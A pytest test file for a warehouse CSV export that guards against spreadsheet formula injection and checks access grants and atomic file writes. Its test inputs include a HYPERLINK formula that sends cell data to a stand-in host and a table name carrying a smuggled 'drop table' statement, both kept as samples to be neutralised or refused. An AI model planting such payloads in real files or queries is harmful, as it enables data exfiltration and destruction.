"""Tables for spreadsheets: nothing in them is a formula, and nothing of theirs is lost."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import psycopg2.extensions
import pytest
from click.testing import CliRunner

from ecommerce_dw.cli import main
from ecommerce_dw.explain import UnknownTableError
from ecommerce_dw.export import export
from ecommerce_dw.settings import Settings

#: Texts that a spreadsheet computes, and texts that it does not.
FORMULAS = [
    '=HYPERLINK("http://x/?"&A1)',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1",
    "\uff0d1",
    "\uff0b1",
    "\uff20A",
]
PLAIN = ["a=1", "'=1", " =1", "", "1;=2", 'say "x"', "two\nlines", "Öl", None]


@pytest.fixture
def table(owner: psycopg2.extensions.connection) -> str:
    with owner.cursor() as cursor:
        cursor.execute("create type marts.kind as enum ('=1+1')")
        cursor.execute(
            "create table marts.people (n int, title text, short varchar, amount numeric, day date, "
            "since timestamptz default '-infinity', kind marts.kind default '=1+1', more json default '{}')"
        )
        cursor.executemany(
            "insert into marts.people values (%s, %s, %s, -12.50, '2026-01-31')",
            [(n, text, text) for n, text in enumerate([*FORMULAS, *PLAIN])],
        )
        cursor.execute("grant select on marts.people to analyst")
    return "people"


def rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_no_text_is_a_formula_and_every_value_is_there(settings: Settings, table: str) -> None:
    output = io.BytesIO()
    assert export(settings, table, output) == len(FORMULAS) + len(PLAIN)
    header, *lines = rows(output.getvalue())
    assert header == ["n", "title", "short", "amount", "day", "since", "kind", "more"]
    expected = [f"'{text}" for text in FORMULAS] + [text or "" for text in PLAIN]
    assert [line[1] for line in lines] == [line[2] for line in lines] == expected
    assert {(Decimal(line[3]), dt.date.fromisoformat(line[4])) for line in lines} == {
        (Decimal("-12.50"), dt.date(2026, 1, 31))
    }
    assert {tuple(line[5:]) for line in lines} == {("", "'=1+1", "{}")}


def test_it_is_what_an_analyst_may_read(settings: Settings, owner: psycopg2.extensions.connection) -> None:
    with owner.cursor() as cursor:
        cursor.execute("create table marts.customers (id text, email text)")
        cursor.execute("insert into marts.customers values ('C1', 'anna@example.com')")
        cursor.execute("grant select (id) on marts.customers to analyst")
        cursor.execute("create view masked.customers as select id, '***' as email from marts.customers")
        cursor.execute("grant select on masked.customers to analyst")
    for name in ("customers", "marts.customers", "MARTS.Customers", '"marts".customers'):
        output = io.BytesIO()
        export(settings, name, output)
        assert rows(output.getvalue())[1:] == [["C1", "***"]]
    for name in ("raw.load_ledgers", "nowhere", "pg_authid; drop table x"):
        with pytest.raises((UnknownTableError, psycopg2.Error)):
            export(settings, name, io.BytesIO())


def test_a_file_is_whole_or_what_it_was(
    settings: Settings, table: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("ecommerce_dw.commands.export.get_settings", lambda: settings)
    file = tmp_path / "people.csv"
    done = CliRunner().invoke(main, ["export", table, "-o", str(file)])
    assert done.exit_code == 0 and f"{len(FORMULAS) + len(PLAIN)} rows" in done.output
    before = file.read_bytes()
    assert CliRunner().invoke(main, ["export", table]).stdout_bytes == before
    refused = CliRunner().invoke(main, ["export", "peoples", "-o", str(file)])
    assert refused.exit_code == 2 and "no table peoples" in refused.output
    assert file.read_bytes() == before and [path.name for path in tmp_path.iterdir()] == ["people.csv"]
